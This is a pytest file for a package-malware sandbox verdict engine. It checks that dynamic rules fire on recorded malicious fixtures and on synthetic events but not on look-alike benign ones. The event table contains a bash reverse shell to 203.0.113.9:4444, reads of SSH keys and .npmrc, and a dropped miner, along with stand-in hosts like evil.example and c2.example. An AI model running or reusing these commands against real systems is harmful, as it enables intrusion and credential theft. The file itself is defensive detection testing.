"""Dynamic rules over recorded sandbox reports (tests/fixtures/verdict, recorded with
`pkgtrace analyze … --local` from the TEST FIXTURE packages in tests/fixtures/packages and from a
real benign release), and over recorded sections with one event added or changed per rule."""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path

import pytest

from pkgtrace.verdict import judge, load_rules

FIXTURES = Path(__file__).parent.parent / "fixtures" / "verdict"


def recorded(name: str) -> dict:
    doc = json.loads((FIXTURES / name).read_text())
    return {"dynamic": doc["dynamic"], "report": doc["report"]}


BENIGN = "dynamic-pypi-requests-benign.json"

SEEN_IN_RECORDINGS = {"DYN-BAIT-READ", "DYN-BAIT-SENT", "DYN-ENV-IN-PAYLOAD", "DYN-PERSISTENCE-WRITE",
                      "DYN-SHELL-PIPE-DOWNLOAD", "DYN-DOWNLOADER", "DYN-DNS-NONREGISTRY",
                      "DYN-CONNECT-NONREGISTRY", "DYN-HTTP-REQUEST", "DYN-COMBO-DNS-AND-HTTP"}


@pytest.mark.parametrize("name", ["dynamic-pypi-behaviour.json", "dynamic-npm-behaviour.json"])
def test_recorded_fixture_malware_is_malicious_with_evidence(name):
    v = judge(recorded(name), suppressions=[])
    assert v["label"] == "malicious" and v["score"] >= 90
    assert SEEN_IN_RECORDINGS <= set(v["rules_fired"])
    by_rule = {f["rule"]: f for f in v["findings"]}
    assert by_rule["DYN-BAIT-READ"]["evidence"]["path"] == "/root/.ssh/id_rsa"
    assert by_rule["DYN-BAIT-READ"]["phase"] in ("install", "import", "execute")
    sent = by_rule["DYN-BAIT-SENT"]
    assert sent["evidence"]["via"] == "http" and sent["evidence"]["excerpt"]   # the payload excerpt
    assert "evil.example" in by_rule["DYN-DNS-NONREGISTRY"]["message"]
    assert by_rule["DYN-CONNECT-NONREGISTRY"]["evidence"]["sni"] == "c2.example"
    assert by_rule["DYN-PERSISTENCE-WRITE"]["attack"].startswith("T1546")


def test_recorded_benign_release_is_benign():
    v = judge(recorded(BENIGN), suppressions=[])
    assert v["label"] == "benign", v["findings"]
    assert not [f for f in v["findings"] if f["source"] == "dynamic"]


def test_ossf_document_alone_is_enough_for_behaviour_rules():
    docs = recorded("dynamic-pypi-behaviour.json")
    v = judge({"dynamic": docs["dynamic"]}, suppressions=[])
    assert {"DYN-BAIT-READ", "DYN-PERSISTENCE-WRITE", "DYN-DOWNLOADER"} <= set(v["rules_fired"])


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _cmd(*argv):
    return {"pid": 77, "argv": list(argv), "env": [], "exe": argv[0], "time": "00:00:00"}


# rule: (phase, list name, event that must fire it, look-alike event that must not)
EVENTS = {
    "DYN-RAW-TCP": ("install", "network",
                    {"kind": "tcp", "dst": "203.0.113.9", "port": 4444, "first_bytes_b64": _b64("hello")},
                    {"kind": "tcp", "dst": "10.77.0.1", "port": 53, "first_bytes_b64": _b64("q")}),
    "DYN-NETWORK-EXECUTE": ("execute", "network",
                            {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "api.example",
                             "http": {"method": "GET", "target": "/v1", "host": "api.example", "headers": []}},
                            {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"},
                             "allowed": True}),
    "DYN-NPMRC-READ-BY-PACKAGE": ("import", "files",
                                  {"path": "/root/.npmrc", "read": True, "write": False, "delete": False},
                                  {"path": "/root/.config/pip/pip.conf", "read": True, "write": False,
                                   "delete": False}),
    "DYN-ENV-IN-REQUEST-LINE": ("install", "network",
                                {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "http": {
                                    "method": "GET", "target": "/c?hostname=box&user=root", "host": "x.example",
                                    "headers": []}},
                                {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"},
                                 "allowed": True}),
    "DYN-INLINE-INTERPRETER": ("install", "commands", _cmd("python3", "-c", "import os; os.system('id')"),
                               _cmd("/opt/pkgtrace/venv/bin/python", "-c",
                                    "exec(compile('''\n# This is <pip-setuptools-caller> -- x''', 'f', 'exec'))")),
    "DYN-REVERSE-SHELL": ("install", "commands", _cmd("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                          _cmd("bash", "-c", "echo building")),
    "DYN-OTHER-PACKAGE-WRITE": ("install", "files",
                                {"path": "/usr/lib/python3/dist-packages/six.py", "read": False, "write": True,
                                 "delete": False},
                                {"path": "/opt/pkgtrace/venv/lib/python3.11/site-packages/pkg/__init__.py",
                                 "read": False, "write": True, "delete": False}),
    "DYN-DROP-EXECUTABLE": ("install", "file_events",
                            {"op": "chmod", "path": "/tmp/.cache-x/miner", "mode": "0o755", "executable": True},
                            {"op": "chmod", "path": "/opt/pkgtrace/venv/bin/pkg-cli", "mode": "0o755",
                             "executable": True}),
    "DYN-LEFT-RUNNING": ("import", "left_running", {"pid": 40, "ppid": 1, "name": "miner"}, None),
}


def test_every_dynamic_rule_is_tested():
    from .test_dynamic_context import CONTEXT_EVENTS  # the context rules' own table
    dynamic = {r.id for r in load_rules() if r.family == "dynamic"}
    assert dynamic - SEEN_IN_RECORDINGS - set(EVENTS) - set(CONTEXT_EVENTS) == set()


def _with(event: dict | None, phase: str, key: str) -> dict:
    docs = recorded(BENIGN)
    del docs["dynamic"]  # the report section is the richer source
    phases = docs["report"]["dynamic"]["phases"]
    phases.setdefault(phase, copy.deepcopy(phases["import"]) | {"files": [], "commands": [], "network": [],
                                                                 "dns": [], "file_events": [],
                                                                 "left_running": []})
    if event is not None:
        phases[phase].setdefault(key, []).append(event)
    return docs


@pytest.mark.parametrize("rule", sorted(EVENTS))
def test_dynamic_rule_fires_on_event_and_not_on_lookalike(rule):
    phase, key, bad, good = EVENTS[rule]
    v = judge(_with(bad, phase, key), suppressions=[])
    assert rule in v["rules_fired"], v["findings"]
    f = next(f for f in v["findings"] if f["rule"] == rule)
    assert f["source"] == "dynamic" and f["phase"] == phase and f["evidence"]
    v = judge(_with(good, phase, key), suppressions=[])
    assert rule not in v["rules_fired"], v["findings"]
